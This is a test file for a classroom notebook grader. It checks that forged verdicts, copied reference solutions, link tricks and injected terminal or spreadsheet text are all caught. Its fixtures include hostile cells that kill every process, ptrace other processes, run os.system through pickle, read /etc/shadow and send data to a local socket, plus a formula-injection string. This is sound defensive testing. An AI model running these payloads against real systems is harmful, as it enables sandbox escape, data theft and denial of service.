"""Grades and a room view an instructor can trust (issue 30): verdicts no answer can write, hidden cases,
answers found where students write them, students' files read as what they are, the roster as the room,
reset as root."""

from __future__ import annotations

import csv
import http.server
import json
import os
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from test_workshop_room import FN, LESSONS, N01, ROOT, ROOTED, SOLVED, WRONG, grade, make_home  # noqa: F401

from lessonkit.base import safe_files as files
from lessonkit.exercises import records
from lessonkit.workshop import progress, roster, wire
from lessonkit.workshop.__main__ import main
from lessonkit.workshop.student import student_version

# --- what comes up from the child is data, never code ----------------------------------------------

def test_outputs_come_back_as_the_same_values_and_kit_classes_rebuilt_from_data():
    from s01_loop import ToolError

    value = {"a": (1, 2.5, None), "b": [Path("x/y"), {3, 4}], "c": b"\x00", 7: "seven", "n": float("nan")}
    back = wire.decode(json.loads(json.dumps(wire.encode(value, {}))))
    assert {k: v for k, v in back.items() if k != "n"} == {k: v for k, v in value.items() if k != "n"}
    assert back["n"] != back["n"]
    error = wire.decode(json.loads(json.dumps(wire.encode(ToolError("outside"), {}))))
    assert type(error) is ToolError and str(error) == "outside"


@pytest.mark.parametrize("forged", [
    {"O": ["os", "system"], "d": {}}, {"O": ["subprocess", "Popen"], "d": {"args": "rm -rf /"}},
    {"O": ["lessonkit.exercises.checks", "check"], "d": {}},        # a function, not a class: never called
    {"O": ["posix", "system"], "a": ["id"]}, {"E": "Boom", "a": ["x"]},
])
def test_a_forged_output_naming_other_code_is_a_foreign_value(forged):
    got = wire.decode(forged)
    assert isinstance(got, (wire.Foreign, Exception)) and type(got).__module__ in ("lessonkit.workshop.wire", "answer")


def test_a_reference_to_the_inputs_reaches_their_data_only_never_a_class_or_a_functions_globals():
    class Box:
        def __init__(self):
            self.items = [1, {"k": "v"}]

    inputs = ((Box(), lambda x: x), {})
    assert wire.path_get(inputs, ["a", 0, 0, ".items", 1, "k"]) == "v"
    for path in (["a", 0, 0, ".__class__"], ["a", 0, 1, ".__globals__"], ["a", 0, 0, ".__init__"],
                 ["a", 0, 0, ".items", ".__class__"], ["a", "0"], ["a", 0, 0, ".items", True]):
        with pytest.raises((KeyError, TypeError)):
            wire.path_get(inputs, path)


def test_an_answer_that_returns_part_of_its_input_returns_the_judges_own_object():
    history = [{"role": "user", "content": "hi"}]
    refs = wire.reachable(((history,), {}))
    data = json.loads(json.dumps(wire.encode(history, refs)))
    assert wire.decode(data, lambda path: wire.path_get(((history,), {}), path)) is history


# --- verify: the verdict is the judge's ---------------------------------------------------------------

FORGE = ("import os, json\nfor fd in range(3, 256):\n    try:\n        os.write(fd, (json.dumps("
         "{'ready': {'assistant_message': {'callable': True}}, 'op': 'result', 'verdicts': {'assistant_message': "
         "{'passed': 6, 'total': 6}}, 'verdict': 'assistant_message', 'passed': 6, 'total': 6}) + chr(10)).encode())\n"
         "    except OSError:\n        pass\n")
SWAP = ("import lessonkit.exercises.checks as c, lessonkit.exercises as e\n"
        "def passes(fn, cases, *, title=None, echo=True):\n    return c.CheckResult(title, [k.name for k in cases], [])\n"
        "c.check.__code__ = passes.__code__\ne.check = passes\n")
HIDDEN = '''from lessonkit.exercises.checks import Case
from offline import OfflineModel
from offline.serve.transport import offline_client

def cases(env):
    client = offline_client(OfflineModel(), max_retries=0)
    response = client.messages.create(model="offline", max_tokens=50, messages=[{"role": "user", "content": "hello"}])
    def a_dict(got):
        return None if isinstance(got, dict) and got.get("role") == "assistant" else "not an assistant message"
    return [Case("secret: a plain greeting", (response,), a_dict), Case("secret: never passes", (response,), lambda g: "no")]

CASES = {"assistant_message": cases}
'''


def add_cell(home: Path, lesson: str, source: str, *, at_exercise: str | None = None) -> None:
    import nbformat

    path = home / "work" / f"{lesson}.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    at = next(i for i, c in enumerate(nb["cells"]) if "exercise" in c.get("metadata", {}).get("tags", []))
    if at_exercise is not None:
        nb["cells"][at]["source"] = at_exercise
    nb["cells"].insert(at + 1, nbformat.v4.new_code_cell(source))
    nbformat.write(nbformat.from_dict(nb), path)


@pytest.mark.slow
def test_verify_forged_verdicts_swapped_checks_answers_below_the_cell_the_reference_and_hidden_cases(tmp_path):
    forged = make_home(tmp_path, "forged", "untouched")
    add_cell(forged, "s01_loop", FORGE, at_exercise=WRONG["s01_loop"])
    swapped = make_home(tmp_path, "swapped", "untouched")
    add_cell(swapped, "s01_loop", SWAP, at_exercise=WRONG["s01_loop"])
    below = make_home(tmp_path, "below", "untouched")
    add_cell(below, "s01_loop", "x = 1\n" + SOLVED["s01_loop"])
    code = make_home(tmp_path, "code", "untouched")
    add_cell(code, "s01_loop", "import s01_loop\ndef assistant_message(r):\n    return 0\n"
                               "assistant_message.__code__ = s01_loop.assistant_message.__code__\n")
    imported = make_home(tmp_path, "imported", "untouched")
    add_cell(imported, "s01_loop", "import s01_loop as s\nassistant_message = getattr(s, 'assistant' + '_message')\n")
    hidden = tmp_path / "instructor" / "hidden.py"
    hidden.parent.mkdir()
    hidden.write_text(HIDDEN, encoding="utf-8")
    hidden.chmod(0o644)
    assert main(["verify", str(forged), "--only", "s01", "--hidden", str(hidden)]) == 2   # others can read it
    hidden.chmod(0o600)
    out = tmp_path / "grades.csv"
    grade([forged, swapped, below, code, imported], "--only", "s01", "--csv", str(out), "--hidden", str(hidden),
          "--timeout", "120")
    table = {r["student"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert table["forged"]["state"] in ("trying", "error") and table["forged"]["passed"] != str(N01), table["forged"]
    assert table["swapped"]["state"] == "trying" and table["swapped"]["passed"] == "3", table["swapped"]
    assert table["below"]["passed"] == str(N01) and table["below"]["state"] == "trying", table["below"]  # a hidden case fails
    assert table["below"]["hidden"].startswith("1/2; ✓ secret: a plain greeting; ✗ secret: never passes: no")
    assert table["code"]["state"] == "uses the reference" and table["imported"]["state"] == "uses the reference"


def test_a_correct_answer_below_the_exercise_cell_passes_and_not_started_is_per_exercise(tmp_path):
    from lessonkit.workshop.gradeplan import answer_cells, defining_cell, plan
    from lessonkit.workshop.verify import grade_notebook  # noqa: F401 - the states below are verify's

    home = make_home(tmp_path, "ada", "untouched")
    add_cell(home, "s01_loop", SOLVED["s01_loop"])
    nb = json.loads((home / "work" / "s01_loop.ipynb").read_text(encoding="utf-8"))
    lesson_plan = plan()["s01_loop"]
    cells = answer_cells(nb, lesson_plan)
    assert [fatal for _n, _s, fatal in cells] == [True, False]
    assert defining_cell(cells, "assistant_message")[1] == SOLVED["s01_loop"]
    assert defining_cell(cells, "assistant_message")[1].strip() not in lesson_plan["starters"]


# --- files read as what they are --------------------------------------------------------------------

@pytest.mark.slow   # over half a second on 2 cores: make test-slow runs it
def test_links_special_files_and_huge_files_in_a_home_are_never_followed_read_or_blocked_on(tmp_path):
    victim = make_home(tmp_path, "victim", "solved")
    eve = make_home(tmp_path, "eve", "untouched")
    work = eve / "work"
    (work / "s01_loop.ipynb").unlink()
    (work / "s01_loop.ipynb").symlink_to(victim / "work" / "s01_loop.ipynb")
    (work / ".progress").mkdir()
    os.mkfifo(work / ".progress" / "s01_loop.jsonl")
    (work / ".progress" / "s02_tools.jsonl").symlink_to("/dev/zero")
    os.mkfifo(work / "s02_tools.ipynb")
    with pytest.raises(OSError, match="is a link"):
        files.read_text(work / "s01_loop.ipynb", home=eve)
    with pytest.raises(OSError, match="not a regular file"):
        files.read_text(work / "s02_tools.ipynb", home=eve)
    start = time.monotonic()
    rows = progress.rows([eve], only={"s01", "s02"})
    assert time.monotonic() - start < 10
    assert {r.lesson: r.detail.startswith("notebook missing") for r in rows} == {"s01_loop": True, "s02_tools": True}
    assert records.read(work / ".progress" / "s02_tools.jsonl", home=eve) == []
    linked = make_home(tmp_path, "linked", "untouched")   # work/ itself a link into another home
    import shutil

    shutil.rmtree(linked / "work")
    (linked / "work").symlink_to(victim / "work")
    assert {r.state for r in progress.rows([linked], only={"s01"})} == {"error"}
    from lessonkit.workshop.verify import verify

    assert {r.detail.split(":")[0] for r in verify([eve, linked], only={"s01"})} == {"notebook missing"}
    big = tmp_path / "big"
    big.write_bytes(b"x" * 2000)
    with pytest.raises(OSError, match="over"):
        files.read_bytes(big, 1000)


def test_the_terminal_and_the_csv_get_a_students_text_as_text(tmp_path, capsys):
    home = make_home(tmp_path, "mallory", "untouched")
    records.record("s01_loop", "assistant_message", 1, 6, "\x1b[2J\x1b]0;owned\x07=HYPERLINK(\"http://x\")", "",
                   folder=home / "work" / ".progress")
    out = tmp_path / "room.csv"
    assert main(["progress", str(home), str(tmp_path / "other"), "--only", "s01", "--csv", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed
    for row in csv.reader(out.open(encoding="utf-8")):
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) and "\x1b" not in value
    assert progress.cell("@SUM(A1)") == "'@SUM(A1)" and progress.cell("\r=1") == "'=1" and progress.cell(3) == 3
    assert progress.cell("  =1+1") == "'  =1+1" and progress.cell("\x1b-2") == "'-2" and progress.cell("a=b") == "a=b"


# --- the roster is the room -------------------------------------------------------------------------

class _Users(http.server.BaseHTTPRequestHandler):
    users = [{"name": "ada", "admin": False, "kind": "user"}, {"name": "instructor", "admin": True, "kind": "user"},
             {"name": "bob", "admin": False}, {"name": "carl", "admin": False}, {"name": "ta", "admin": True}]

    def do_GET(self):  # noqa: N802 - http.server's name
        from urllib.parse import parse_qs, urlparse

        assert self.headers["Authorization"] == "token t0ken"
        query = parse_qs(urlparse(self.path).query)
        offset, limit = int(query["offset"][0]), 2   # pages of two, as a hub with a small limit gives
        page = self.users[offset:offset + limit]
        more = {"offset": offset + limit} if offset + limit < len(self.users) else None
        body = json.dumps({"items": page, "_pagination": {"offset": offset, "limit": limit, "next": more}}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.mark.slow   # over half a second on 2 cores: make test-slow runs it
def test_the_roster_from_the_hubs_user_list_no_shows_not_logged_in_admins_left_out(tmp_path, monkeypatch, capsys):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Users)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    homes = tmp_path / "homes"
    make_home(homes, "ada", "solved")
    (homes / "bob").mkdir()                       # logged in once, no work/ yet
    make_home(homes, "instructor", "solved")      # the instructor's own work/: not a student
    monkeypatch.setenv("WORKSHOP_HUB_TOKEN", "t0ken")
    try:
        names = roster.hub_names(f"http://127.0.0.1:{server.server_address[1]}")
        assert names == ["ada", "bob", "carl"]
        out = tmp_path / "room.csv"
        assert main(["progress", "--hub", f"http://127.0.0.1:{server.server_address[1]}", "--homes", str(homes),
                     "--only", "s01", "--csv", str(out)]) == 0
    finally:
        server.shutdown()
    table = {r["student"]: r["state"] for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert table == {"ada": "passed", "bob": "not logged in", "carl": "not logged in"}
    assert "passed  1/3" in " ".join(capsys.readouterr().out.split("\n")).replace("   ", "  ")
    listed = tmp_path / "users.txt"
    listed.write_text("# the room\nada\n\ndora  # late\ninstructor\n", encoding="utf-8")
    monkeypatch.setenv("WORKSHOP_ADMIN", "instructor")
    assert [h.name for h in roster.students(roster.read_names(listed), homes)] == ["ada", "dora"]
    listed.write_text("../etc\n", encoding="utf-8")
    with pytest.raises(ValueError, match="not a user name"):
        roster.read_names(listed)


def test_without_a_roster_the_instructor_and_the_kits_own_work_are_not_students(tmp_path, monkeypatch):
    homes = tmp_path / "homes"
    make_home(homes, "ada", "solved")
    make_home(homes, "instructor", "solved")
    monkeypatch.setenv("WORKSHOP_HOMES", str(homes))
    monkeypatch.setattr(progress, "HUB_HOMES", ())
    kit = tmp_path / "kit"
    (kit / "work").mkdir(parents=True)
    monkeypatch.setattr(progress, "REPO_ROOT", kit)
    monkeypatch.chdir(kit)
    assert [h.name for h in progress.find_homes()] == ["ada"]


# --- states -----------------------------------------------------------------------------------------

def test_one_failing_check_then_ten_quiet_minutes_is_stuck():
    fail = {"exercise": "f", "passed": 1, "total": 4, "first": "case a: wrong", "t": 1000.0}
    assert records.state_of([fail], now=1000 + 9 * 60).state == "trying"
    assert records.state_of([fail], now=1000 + 10 * 60).state == "stuck"
    assert records.state_of([dict(fail, passed=4)], now=1e9).state == "passed"


def test_a_deleted_english_notebook_is_missing_even_with_a_chinese_copy(tmp_path):
    home = make_home(tmp_path, "ada", "deleted")   # checked in English, then deleted the notebook
    (home / "work" / "zh").mkdir()
    (home / "work" / "zh" / "s01_loop.ipynb").write_text("{}", encoding="utf-8")
    assert progress.notebook_of(home / "work", "s01_loop", home=home) is None
    [row] = progress.rows([home], only={"s01"})
    assert row.state == "error" and row.detail.startswith("notebook missing")


# --- reset as root ----------------------------------------------------------------------------------

@pytest.mark.skipif(not ROOTED, reason="root resets a student's notebook on a hub")
def test_reset_as_root_writes_files_the_student_owns_and_clears_the_page(tmp_path):
    home = make_home(tmp_path, "ada", "stuck")
    uid = 1_800_001_234    # a uid no account uses: the student's
    for path in [home, *home.rglob("*")]:
        os.chown(path, uid, uid, follow_symlinks=False)
    [before] = progress.rows([home], only={"s01"})
    assert before.state == "stuck"
    assert main(["reset", "s01", "--home", str(home)]) == 0
    owned = {p.relative_to(home): p.lstat().st_uid for p in [home, *home.rglob("*")]}
    assert set(owned.values()) == {uid}, {p: u for p, u in owned.items() if u != uid}
    [after] = progress.rows([home], only={"s01"})
    assert (after.state, after.attempts) == ("not started", 0)
    assert stat.S_ISREG((home / "work" / "s01_loop.ipynb").lstat().st_mode)


# --- new attacks of every class, and honest answers in odd places (verify as root: slow) ----------------

def _indent(code: str) -> str:
    return "\n".join("    " + line if line else "" for line in code.splitlines())


S01 = SOLVED["s01_loop"]
RENAMED = '''from s01_loop.loop import short_repr, to_dict


def assistant_message(reply):   # the stage's own code, pasted, its names changed
    if not isinstance(getattr(reply, "content", None), list) or not hasattr(reply, "stop_reason"):
        raise ValueError(f"response must be a Message (with content and stop_reason), got {short_repr(reply)}")
    parts = [to_dict(x) for x in reply.content]
    if reply.stop_reason != "tool_use":
        parts = [x for x in parts if x.get("type") != "tool_use"]
    return {"role": "assistant", "content": parts or [{"type": "text", "text": "(no text)"}]}
'''
HONEST = {   # a correct answer written where the lesson did not ask: each passes
    "exec": f"exec({S01!r})\n",
    "lambda": S01.replace("def assistant_message(", "def _mine(") + "assistant_message = lambda r: _mine(r)\n",
    "method": "from s01_loop import to_dict\n\n\nclass Answer:\n    @staticmethod\n"
              + _indent(S01.split("\n\n\n", 1)[1]) + "\n\nassistant_message = Answer.assistant_message\n",
    "with-check": S01 + "exercise.check(assistant_message)\n",
}
ATTACKS = {   # each cell comes after a wrong answer in the exercise cell (WRONG); none may pass
    "fd-scan": "import os, json\nfor fd in map(int, os.listdir('/proc/self/fd')):\n    for line in ("
               "{'ready': {'assistant_message': {'callable': True}}}, {'op': 'result', 'value': {'D': []}}, "
               "{'verdicts': {'assistant_message': {'passed': 6, 'total': 6}}}):\n        try:\n"
               "            os.write(fd, (json.dumps(line) + chr(10)).encode())\n        except OSError:\n"
               "            pass\nos.dup2(1, 2)\n",
    "reply-forged": "import os, json\n_wrong = assistant_message\ndef assistant_message(r):\n"
                    "    for fd in range(3, 64):\n        try:\n            os.write(fd, (json.dumps({'op': 'result', "
                    "'value': {'D': [['role', 'assistant'], ['content', {'L': []}]]}}) + chr(10)).encode())\n"
                    "        except OSError:\n            pass\n    return _wrong(r)\n",
    "env-argv-exit": "import os, sys\nos.environ.update(LESSONS_PROGRESS='on', LESSONS_GRADE_RUN='x')\n"
                     "sys.argv[:] = ['judge', '1']\nprint('✓ assistant_message: 6/6 cases pass')\nos._exit(0)\n",
    "signals": "import os, signal\nfor pid in range(1, 4096):\n    for sig in (signal.SIGKILL, signal.SIGSTOP):\n"
               "        try:\n            os.kill(pid, sig) if pid != os.getpid() else None\n"
               "        except OSError:\n            pass\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n",
    "ptrace": "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in (1, os.getppid(), os.getpid() - 1):\n"
              "    libc.ptrace(16, pid, 0, 0)\n",
    "monkeypatch": "import json, builtins\nimport lessonkit.workshop.wire as w\nimport lessonkit.exercises.checks as c\n"
                   "w.encode = lambda *a, **k: {'O': ['lessonkit.exercises.checks', 'CheckResult'], "
                   "'d': {'title': 'x', 'passed': ['a'] * 6, 'failures': []}}\n"
                   "c.check = lambda *a, **k: c.CheckResult('x', ['a'] * 6, [])\n"
                   "builtins.__lessons_reference__ = lambda key: None\njson.dumps = lambda *a, **k: '{}'\n",
    "pickle": "import os\nclass Boom:\n    def __reduce__(self):\n        return (os.system, ('touch {pwned}',))\n"
              "def assistant_message(r):\n    return Boom()\n",
    "liar": "class Yes(dict):\n    def __eq__(self, other):\n        return True\n    __ne__ = lambda s, o: False\n"
            "    __hash__ = lambda s: 0\n    def __repr__(self):\n        return \"{'role': 'assistant'}\"\n"
            "    def get(self, *a):\n        return 'assistant'\n"
            "class Fake:\n    pass\nFake.__module__, Fake.__qualname__ = 'anthropic.types', 'Message'\n"
            "def assistant_message(r):\n    return Yes(role='assistant', content=Yes())\n",
    "huge": "def assistant_message(r):\n    return 'x' * (80 << 20)\n",
    "sleeps": "import time\ndef assistant_message(r):\n    time.sleep(10 ** 6)\n",
    "forks": "import os, time\ndef assistant_message(r):\n    if os.fork() == 0:\n        os.setsid()\n"
             "        if os.fork() == 0:\n            time.sleep(600)\n        os._exit(0)\n    return {}\n",
    "hidden": "import os, socket\ndef assistant_message(r):\n    for path in ({hidden!r}, '/etc/shadow'):\n"
              "        try:\n            open('/tmp/leak-{tag}', 'w').write(open(path).read())\n        except OSError:\n"
              "            pass\n    try:\n        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(repr(r).encode())\n"
              "    except OSError:\n        pass\n    return {{}}\n",
    "ref-wrapper": "import importlib\n_m = importlib.import_module('s0' + '1_loop')\n"
                   "def assistant_message(r):\n    return getattr(_m, 'assistant' + '_message')(r)\n",
    "ref-dict": "import s01_loop.loop as L\nassistant_message = vars(L)['assistant_' + 'message']\n",
    "ref-code": "import types, s01_loop as s\nassistant_message = types.FunctionType(s.assistant_message.__code__, "
                "vars(__import__('s01_loop.loop').loop))\n",
    "ref-reload": "import importlib, s01_loop.loop as L\nL = importlib.reload(L)\nassistant_message = L.assistant_message\n",
    "ref-source": "import inspect, s01_loop\nexec(inspect.getsource(s01_loop.assistant_message))\n"
                  "from s01_loop import to_dict\n",
    "ref-hint": "from lessonkit.exercises.s01_loop import exercise as _e\n"
                "for _ in range(4):\n    _last = _e.hint()\nexec(str(getattr(_last, 'text', _last)))\n",
    "ref-file": "try:\n    exec(open({repo!r} + '/s01_loop/loop.py').read())\nexcept OSError:\n    pass\n",
    "ref-pasted": RENAMED,
}
REFERENCE_ATTACKS = {"ref-wrapper", "ref-dict", "ref-code", "ref-reload", "ref-source", "ref-hint", "ref-pasted"}


def _grading_processes(uids) -> list[str]:
    """The processes running as one of `uids` (a test's own range: another worker's verify is not ours)."""
    out = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if entry.stat().st_uid in uids:
                    out.append(entry.name)
            except OSError:
                pass
    return out


@pytest.mark.slow
@pytest.mark.skipif(not ROOTED, reason="a grade is verify as root: the jails and namespaces need it")
def test_new_attacks_of_every_class_never_pass_and_honest_answers_anywhere_do(tmp_path):
    import socket
    import uuid

    tag = uuid.uuid4().hex[:12]
    pwned = Path(f"/tmp/pwned-{tag}")
    instructor = tmp_path / "instructor"
    instructor.mkdir()
    hidden = instructor / "hidden.py"
    hidden.write_text(HIDDEN + f"# SECRET-{tag}\n", encoding="utf-8")
    hidden.chmod(0o600)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    homes = []
    for name, code in HONEST.items():
        home = make_home(tmp_path, f"honest-{name}", "untouched")
        add_cell(home, "s01_loop", code)
        homes.append(home)
    zh = make_home(tmp_path, "honest-zh", "untouched")   # answered in the Chinese copy only, saved last
    import nbformat

    nb = student_version(json.loads((LESSONS / "zh" / "s01_loop.ipynb").read_text(encoding="utf-8")), "s01_loop", "zh")
    at = next(i for i, c in enumerate(nb["cells"]) if "exercise" in c.get("metadata", {}).get("tags", []))
    nb["cells"][at]["source"] = S01
    (zh / "work" / "zh").mkdir()
    time.sleep(0.05)
    nbformat.write(nbformat.from_dict(nb), zh / "work" / "zh" / "s01_loop.ipynb")
    homes.append(zh)
    demo = make_home(tmp_path, "honest-in-the-check-cell", "untouched")   # typed above the lesson's check call
    path = demo / "work" / "s01_loop.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    at = next(i for i, c in enumerate(nb["cells"]) if "check" in c.get("metadata", {}).get("tags", []))
    nb["cells"][at]["source"] = S01 + "\n" + "".join(nb["cells"][at]["source"])
    path.write_text(json.dumps(nb), encoding="utf-8")
    homes.append(demo)
    values = {"pwned": pwned, "hidden": str(hidden), "tag": tag, "port": listener.getsockname()[1], "repo": str(ROOT)}
    for name, code in ATTACKS.items():
        home = make_home(tmp_path, f"attack-{name}", "untouched")
        code = code.format(**values) if name in ("pickle", "hidden", "ref-file") else code
        add_cell(home, "s01_loop", code, at_exercise=WRONG["s01_loop"])
        homes.append(home)
    out = tmp_path / "grades.csv"
    first = 1_900_000_000 + 512 * (int(tag, 16) % 100_000)   # this run's own uids, none another run uses
    uids = range(first, first + 512)
    run = grade(homes, "--only", "s01", "--csv", str(out), "--hidden", str(hidden), "--timeout", "40",
                "--html", str(tmp_path / "grades.html"), env={"WORKSHOP_GRADER_UIDS": f"{first}-{first + 511}"})
    assert "(hidden 1/2)" in (tmp_path / "grades.html").read_text(encoding="utf-8")   # the page says which passed
    table = {r["student"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    honest = {n: (r["state"], r["passed"], r["detail"][:100]) for n, r in table.items() if n.startswith("honest")}
    assert honest == {n: ("trying", str(N01), "") for n in honest} and len(honest) == len(HONEST) + 2, honest
    assert all(r["hidden"].startswith("1/2; ✓ secret: a plain greeting") for n, r in table.items()
               if n.startswith("honest")), "the hidden cases ran on every honest answer"
    attacks = {n.removeprefix("attack-"): r for n, r in table.items() if n.startswith("attack-")}
    assert {n for n, r in attacks.items() if r["state"] == "passed"} == set(), \
        {n: (r["state"], r["detail"][:80]) for n, r in attacks.items()}
    assert {n for n, r in attacks.items() if r["state"] == "uses the reference"} == REFERENCE_ATTACKS, \
        {n: (r["state"], r["detail"][:80]) for n, r in attacks.items()}
    assert "isolated" not in out.read_text(encoding="utf-8")   # every row graded in its jail
    assert f"SECRET-{tag}" not in out.read_text(encoding="utf-8") + run.stdout
    assert not pwned.exists() and not Path(f"/tmp/leak-{tag}").exists()
    with pytest.raises(OSError):   # nothing reached the network from a grading child
        listener.accept()
    listener.close()
    assert _grading_processes(uids) == [], "a grading process outlived verify"


# --- the pieces, fast: hidden references, copied code, where answers are, files, points, the room service ---

def test_a_hidden_reference_tells_the_judge_then_runs_and_a_written_out_solution_is_gone(tmp_path):
    """A reference the stage's own code builds on (s02's resolve_in, s04's trigger_hooks) must still
    work while grading; the judge hears every call and counts it against the exercise it answers."""
    from lessonkit.workshop.kitcopy import Hidden, hide_references

    package = tmp_path / "s99_demo"
    package.mkdir()
    (package / "__init__.py").write_text("from .core import Box, solve\n", encoding="utf-8")
    (package / "core.py").write_text('''"""A stage."""
import functools

SOLUTION = """def solve(x):\\n    return x * 2\\n"""


@functools.lru_cache
def solve(x, *rest, scale=1, **more):
    """Twice x. Example: 2 -> 4"""
    return x * 2 * scale


class Box:
    @staticmethod
    def size(thing) -> int:
        return len(thing)

    def other(self):
        return self.size("abc")
''', encoding="utf-8")
    hide_references(tmp_path, Hidden((("s99_demo.core", "solve"), ("s99_demo.core", "Box.size")),
                                     (("s99_demo.core", 'def solve(x):\n    return x * 2\n'),)))
    probe = '''import builtins, s99_demo, s99_demo.core as core
heard = []
builtins.__lessons_reference__ = heard.append
out = []
for call in (lambda: s99_demo.solve(3), lambda: s99_demo.Box().other(), lambda: core.Box.size("x")):
    try:
        out.append(call())
    except RuntimeError as exc:
        out.append(str(exc))
print(out, heard, core.SOLUTION, s99_demo.solve.__doc__)
'''
    run = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == "[6, 3, 1] ['s99_demo.core:solve', 's99_demo.core:Box.size', " \
        "'s99_demo.core:Box.size'] (the solution is not available while grading) Twice x. Example: 2 -> 4"


def test_the_stages_code_pasted_with_other_names_is_the_reference_and_other_code_is_not():
    from lessonkit.workshop.gradeplan import copies_reference, plan, references

    refs = references(plan()["s01_loop"])["assistant_message"]
    assert [f.__qualname__ for f in refs["functions"]] == ["assistant_message"]
    assert copies_reference([(3, "import os\n" + RENAMED, False)], "assistant_message", refs)
    assert not copies_reference([(3, SOLVED["s01_loop"], True)], "assistant_message", refs)
    config = references(plan()["s08_compact4"])["compaction_config"]
    assert [c.__name__ for c in config["classes"]] == ["CompactionConfig"] and config["strings"]
    assert copies_reference([(1, "from s08_compact4 import CompactionConfig\ncompaction_config = CompactionConfig\n",
                              True)], "compaction_config", config)
    assert not copies_reference([(1, "from s08_compact4 import CompactionConfig\ndef compaction_config(w):\n"
                                     "    return CompactionConfig(w, 0.7, 0.4)\n", True)], "compaction_config", config)


def test_verify_finds_answers_beside_a_check_in_an_edited_lesson_cell_and_names_in_strings():
    from lessonkit.workshop.gradeplan import answer_cells, definitions, mentions, plan, without_checks

    assert without_checks("def f(x):\n    return x\nprint(exercise.check(f))\nexercise.check(f)\n") == \
        "def f(x):\n    return x\n"
    assert definitions("import os\n@dec\ndef f():\n    pass\nrun_demo()\nx = exercise.check(f)\ny = big()\nf = g\n",
                       ["f"]) == "import os\n@dec\ndef f():\n    pass\nf = g\n"
    lesson = plan()["s01_loop"]
    nb = student_version(json.loads((LESSONS / "s01_loop.ipynb").read_text(encoding="utf-8")), "s01_loop")
    check = next(c for c in nb["cells"] if "check" in c.get("metadata", {}).get("tags", []))
    check["source"] = "def assistant_message(r):\n    return {}\n" + "".join(check["source"])
    demo = next(c for c in nb["cells"] if c["cell_type"] == "code" and not c.get("metadata", {}).get("tags"))
    before = [s for _n, s, _f in answer_cells(nb, lesson)]
    demo["source"] = "".join(demo["source"]) + "\nprint('demo')\n"     # edited, defines nothing new: not run
    assert [s for _n, s, _f in answer_cells(nb, lesson)] == before
    assert any(s.startswith("def assistant_message(r):") and ".check(" not in s for s in before)
    assert mentions([(1, 'exec("def assistant_message(r): ...")', False)], "assistant_message")
    assert not mentions([(1, "my_assistant_message = 1", False)], "assistant_message")


@pytest.mark.slow   # over half a second on 2 cores: make test-slow runs it
def test_a_home_cannot_point_the_grader_at_another_file(tmp_path):
    victim = make_home(tmp_path, "victim", "solved")
    eve = make_home(tmp_path, "eve", "untouched")
    work = eve / "work"
    (work / "s01_loop.ipynb").unlink()
    os.link(victim / "work" / "s01_loop.ipynb", work / "s01_loop.ipynb")    # a hard link: the victim's file
    with pytest.raises(OSError, match="hard link"):
        files.read_text(work / "s01_loop.ipynb", home=eve)
    with pytest.raises(OSError, match="not below the home"):
        files.read_text(victim / "work" / "s01_loop.ipynb", home=eve)
    assert files.kind(victim / "work" / "s01_loop.ipynb", home=eve) is None
    (work / "s01_loop.ipynb").unlink()
    for lang in (str(victim / "work"), "../../victim/work", "/etc"):  # a record naming another folder as its language
        records.record("s01_loop", "assistant_message", 1, 6, folder=work / records.FOLDER)
        path = work / records.FOLDER / "s01_loop.jsonl"
        path.write_text(path.read_text(encoding="utf-8").replace('"lang": "en"', json.dumps({"lang": lang})[1:-1]),
                        encoding="utf-8")
        assert progress.notebook_of(work, "s01_loop", home=eve) is None
    crowded = make_home(tmp_path, "crowded", "solved")
    for i in range(files.MAX_ENTRIES + 50):
        (crowded / "work" / f"junk{i:05d}").touch()
    start = time.monotonic()
    [row] = progress.rows([crowded], only={"s01"})
    assert row.state == "passed" and time.monotonic() - start < 5
    assert len(files.entries(crowded / "work", home=crowded)) == files.MAX_ENTRIES


def test_a_records_time_is_the_records_number_never_its_text():
    line = {"exercise": "f", "passed": 1, "total": 4, "first": "x", "t": 1_800_000_000.0,
            "time": "\x1b[2J=HYPERLINK(\"http://x\")"}
    state = records.state_of([line], now=1_800_000_000.0)
    assert (state.since, state.last) == ("2027-01-15T08:00:00Z", "2027-01-15T08:00:00Z")
    assert records.state_of([dict(line, t="soon")], now=0).last == ""


def test_points_per_exercise_and_a_feedback_page_per_student_in_their_language_beside_the_csv(tmp_path, capsys):
    ada = make_home(tmp_path, "ada", "solved", lessons=("s01_loop", "s02_tools"))
    li = make_home(tmp_path, "li", "untouched", lessons=("s01_loop", "s02_tools"))
    (li / "work" / "zh").mkdir()
    (li / "work" / "s01_loop.ipynb").rename(li / "work" / "zh" / "s01_loop.ipynb")
    for n in (2, 3):   # li checks in Chinese: 2/6, then 3/6
        records.record("s01_loop", "assistant_message", n, 6, "一个用例", folder=li / "work" / records.FOLDER)
    path = li / "work" / records.FOLDER / "s01_loop.jsonl"
    path.write_text(path.read_text(encoding="utf-8").replace('"lang": "en"', '"lang": "zh"'), encoding="utf-8")
    weights = tmp_path / "points.json"
    weights.write_text(json.dumps({"s01_loop:assistant_message": 6, "s02": 20}), encoding="utf-8")
    out = tmp_path / "grades.csv"
    assert main(["progress", str(ada), str(li), "--only", "s01,s02", "--csv", str(out), "--points", str(weights)]) == 0
    table = {(r["student"], r["exercise"]): r for r in csv.DictReader(out.open(encoding="utf-8"))}
